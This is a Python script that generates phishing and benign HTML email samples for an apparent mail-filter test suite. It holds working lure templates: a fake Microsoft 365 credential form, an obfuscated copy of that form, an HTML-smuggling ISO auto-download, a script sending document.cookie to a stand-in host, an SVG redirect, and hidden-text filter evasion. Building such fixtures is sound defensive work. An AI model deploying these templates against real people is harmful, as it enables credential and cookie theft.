"""Writes the HTML samples (``*.eml`` beside this file); EXPECTED.toml says what each shows.

    .venv/bin/python tests/mail/samples/html/make_samples.py

Lures are modelled on public cases; every person is fictional and attacker hosts
use reserved names (``.example``, documentation IP ranges) that are never contacted.
"""

from __future__ import annotations

import base64
import sys
from email.message import EmailMessage
from pathlib import Path
from urllib.parse import quote

HERE = Path(__file__).parent
sys.path.append(str(HERE.parent))

from _mime import both, message, write_samples  # noqa: E402


def attach_html(m: EmailMessage, name: str, html: str, subtype: str = "html") -> EmailMessage:
    m.add_attachment(html.encode(), maintype="text", subtype=subtype, filename=name)
    return m


M365_PAGE = """<!DOCTYPE html><html><head><title>Sign in to your account</title></head>
<body style="font-family:Segoe UI">
<img src="https://aadcdn.msftauth.example/logo.svg" alt="Microsoft">
<h2>Sign in</h2>
<form method="POST" action="https://office365-auth.example-login.top/next.php">
  <input type="email" name="login" value="camille.exemple@parti-exemple.fr">
  <input type="password" name="passwd" placeholder="Password">
  <input type="submit" value="Sign in">
</form>
<a href="#">Forgot my password</a>
</body></html>"""


def m365_attachment_login() -> EmailMessage:
    """A fake Microsoft 365 sign-in page sent as an attachment (opens locally, no address bar
    to check), posting the password to a remote PHP script."""
    m = message("Message vocal (0:42) - Camille", "Microsoft 365 <noreply@m365-voicemail.example>")
    m.set_content("Vous avez reçu un message vocal. Ouvrez la pièce jointe pour l'écouter.\n")
    return attach_html(m, "Message_vocal_0042.html", M365_PAGE)


def obfuscated_login() -> EmailMessage:
    """The same page hidden in document.write(unescape('%3C...')), as phishing kits do."""
    m = message("Facture impayée", "Comptabilité <compta@fournisseur-exemple.example>")
    m.set_content("Veuillez trouver la facture en pièce jointe.\n")
    hidden = quote(M365_PAGE, safe="")
    page = f"<html><script>document.write(unescape('{hidden}'));</script></html>"
    return attach_html(m, "Facture_0912.htm", page)


def smuggling_iso() -> EmailMessage:
    """HTML smuggling: the attachment rebuilds an ISO from base64 and offers it as a download
    (the pattern of QakBot and IcedID campaigns)."""
    m = message("Documents de la réunion", "Secrétariat <secretariat@reunion-exemple.example>")
    m.set_content("Les documents sont dans la pièce jointe.\n")
    payload = base64.b64encode(b"CD001" + bytes(range(256)) * 12).decode()
    page = f"""<html><body><p>Chargement du document...</p>
<script>
var b64 = "{payload}";
var bin = atob(b64);
var bytes = new Uint8Array(bin.length);
for (var i = 0; i < bin.length; i++) {{ bytes[i] = bin.charCodeAt(i); }}
var blob = new Blob([bytes], {{type: "application/octet-stream"}});
var a = document.createElement("a");
a.href = window.URL.createObjectURL(blob);
a.download = "Documents_reunion.iso";
document.body.appendChild(a);
a.click();
</script></body></html>"""
    return attach_html(m, "Documents_reunion.html", page)


def hidden_white_text() -> EmailMessage:
    """A lure padded with white-on-white text, written for filters and not for people."""
    m = message("Votre colis est en attente", "Livraison <suivi@colis-attente.example>")
    filler = (
        "Le conseil municipal a voté le budget annexe de la médiathèque après un long débat "
        "sur les horaires d'ouverture, la rénovation du parvis et le programme culturel de "
        "l'automne prochain dans les quartiers."
    )
    return both(
        m,
        "Votre colis est en attente. Réglez les frais de livraison.\n",
        f"""<html><body style="background-color:#ffffff">
<p>Votre colis est en attente. Réglez les frais de livraison de 1,99 EUR.</p>
<p><a href="https://colis-attente.example/payer">Payer maintenant</a></p>
<div style="color:#ffffff">{filler}</div>
</body></html>""",
    )


def body_password_form() -> EmailMessage:
    """A sign-in form inside the message itself."""
    m = message("Vérification de votre messagerie", "Webmail <admin@webmail-verif.example>")
    return both(
        m,
        "Confirmez votre mot de passe pour conserver votre messagerie.\n",
        """<html><body><p>Confirmez votre mot de passe pour conserver votre messagerie.</p>
<form action="https://webmail-verif.example/check.php" method="post">
<input type="text" name="email"> <input type="password" name="pass">
<input type="submit" value="Confirmer"></form></body></html>""",
    )


def body_form_survey() -> EmailMessage:
    """A 'survey' form in the body collecting name, e-mail and phone number."""
    m = message("Sondage : vos priorités", "Sondages <enquete@sondage-citoyen.example>")
    return both(
        m,
        "Répondez à notre sondage.\n",
        """<html><body><p>Donnez-nous vos priorités pour 2027 :</p>
<form action="https://sondage-citoyen.example/envoi" method="post">
<input type="text" name="nom" placeholder="Nom">
<input type="email" name="courriel"> <input type="tel" name="telephone">
<textarea name="avis"></textarea><input type="submit" value="Envoyer"></form>
</body></html>""",
    )


def voicemail_meta_refresh() -> EmailMessage:
    """An attachment that only sends the browser to a remote page (meta refresh)."""
    m = message("Nouveau message vocal", "Téléphonie <voicemail@standard-exemple.example>")
    m.set_content("Un message vocal vous attend.\n")
    page = """<html><head>
<meta http-equiv="refresh" content="0; url=https://voicemail-portal.example/listen?id=42">
</head><body>Chargement...</body></html>"""
    return attach_html(m, "Voicemail_0042.htm", page)


def body_script() -> EmailMessage:
    """A script in the message body (aimed at webmail flaws)."""
    m = message("Invitation", "Événements <events@invitation-exemple.example>")
    return both(
        m,
        "Vous êtes invité.\n",
        """<html><body><p>Vous êtes invité à notre soirée.</p>
<script>document.location = "https://invitation-exemple.example/rsvp?u=" + escape(document.cookie);
</script></body></html>""",
    )


def svg_script() -> EmailMessage:
    """An SVG 'image' with a script decoding and opening a phishing address (2024 wave)."""
    m = message("Scan du document signé", "Scanner <scan@copieur-exemple.example>")
    m.set_content("Document numérisé en pièce jointe.\n")
    target = base64.b64encode(b"https://docs-signature.example/view?e=camille").decode()
    svg = f"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="400" height="200">
<rect width="400" height="200" fill="#eee"/><text x="20" y="100">Document signé</text>
<script type="text/javascript"><![CDATA[
window.location.href = atob("{target}");
]]></script></svg>"""
    m.add_attachment(svg.encode(), maintype="image", subtype="svg+xml", filename="Scan_0912.svg")
    return m


def newsletter_preheader() -> EmailMessage:
    """A real newsletter: hidden preview text (preheader) with zero-width padding, white text
    on coloured buttons, tracking links. Nothing here is hidden from the reader."""
    m = message("La lettre du dimanche", "Le Quotidien Exemple <lettre@quotidien-exemple.fr>")
    padding = "&zwnj;&nbsp;" * 30
    return both(
        m,
        "La lettre du dimanche.\n",
        f"""<html><body style="margin:0;background-color:#f4f4f4">
<div style="display:none;max-height:0;overflow:hidden;mso-hide:all">
Budget 2027, municipales et le portrait de la semaine.{padding}</div>
<table width="600" bgcolor="#ffffff"><tr><td>
<h1 style="color:#222222">La lettre du dimanche</h1>
<p>Chaque dimanche, l'essentiel de la semaine politique.</p>
<table><tr><td bgcolor="#1a5276" style="padding:12px">
<a href="https://quotidien-exemple.us12.list-manage.com/track/click?u=8a&amp;id=c01"
   style="color:#ffffff;text-decoration:none">Lire la lettre</a></td></tr></table>
<p style="font-size:11px;color:#888888">Vous recevez cette lettre car vous êtes abonné.</p>
</td></tr></table></body></html>""",
    )


def zero_width_words() -> EmailMessage:
    """Brand and lure words broken by invisible characters so that filters miss them."""
    m = message("Securite du compte", "Support <support@compte-alerte.example>")
    zw = "\u200b"
    words = [f"Mi{zw}cro{zw}soft", f"mot de pas{zw}se", f"vé{zw}rifi{zw}cation", f"comp{zw}te"]
    text = f"Votre compte {words[0]} requiert une {words[2]} de votre {words[1]} ({words[3]})."
    return both(
        m,
        text + "\n",
        f"<html><body><p>{text}</p>"
        '<p><a href="https://compte-alerte.example/v">Continuer</a></p></body></html>',
    )


def split_brand_names() -> EmailMessage:
    """Brand names split by zero-size letters: 'Pay<span style=font-size:0>x</span>Pal'."""
    m = message("Paiement refusé", "Service client <service@paiement-refuse.example>")
    tiny = '<span style="font-size:0px">{}</span>'
    return both(
        m,
        "Votre paiement a été refusé.\n",
        f"""<html><body><p>Votre paiement Pay{tiny.format("qz")}Pal a été refusé.</p>
<p>Mettez à jour votre carte dans votre espace Ama{tiny.format("wt")}zon.</p>
<p><a href="https://paiement-refuse.example/maj">Mettre à jour</a></p></body></html>""",
    )


def donation_receipt() -> EmailMessage:
    """The party's own receipt: coloured button with white text, a table background."""
    m = message("Votre reçu fiscal", "Parti Exemple <dons@parti-exemple.fr>",
                to="Jeanne Martin <jeanne.martin@example.org>")  # fmt: skip
    return both(
        m,
        "Merci pour votre don.\n",
        """<html><body><table width="100%" bgcolor="#c0392b"><tr><td>
<font color="#ffffff" size="5">Parti Exemple</font></td></tr></table>
<p>Merci pour votre don de 50 euros.</p>
<p><a href="https://www.parti-exemple.fr/dons/recu/2026-0912"
 style="background-color:#c0392b;color:#ffffff;padding:10px">Télécharger le reçu</a></p>
<p style="color:#777">Parti Exemple, 1 rue de l'Exemple, Paris</p></body></html>""",
    )


def google_alert_real() -> EmailMessage:
    """A genuine Google notice: blue button with white text, nothing hidden."""
    m = message("Alerte de sécurité", "Google <no-reply@accounts.google.com>")
    return both(
        m,
        "Nouvelle connexion sur Windows.\n",
        """<html><body><div style="border:1px solid #dadce0;padding:20px">
<p style="font-size:24px">Nouvelle connexion sur Windows</p>
<p>Votre compte Google vient d'être utilisé sur un nouvel appareil.</p>
<a href="https://accounts.google.com/AccountChooser"
 style="background-color:#4184f3;color:#ffffff;padding:8px">Vérifier l'activité</a>
<p style="font-size:12px;color:rgba(0,0,0,0.54)">Google LLC, Mountain View</p>
</div></body></html>""",
    )


SAMPLES = {
    "m365_attachment_login": m365_attachment_login,
    "obfuscated_login": obfuscated_login,
    "smuggling_iso": smuggling_iso,
    "hidden_white_text": hidden_white_text,
    "body_password_form": body_password_form,
    "body_form_survey": body_form_survey,
    "voicemail_meta_refresh": voicemail_meta_refresh,
    "body_script": body_script,
    "svg_script": svg_script,
    "newsletter_preheader": newsletter_preheader,
    "zero_width_words": zero_width_words,
    "split_brand_names": split_brand_names,
    "donation_receipt": donation_receipt,
    "google_alert_real": google_alert_real,
}


def main() -> None:
    write_samples(HERE, SAMPLES)


if __name__ == "__main__":
    main()
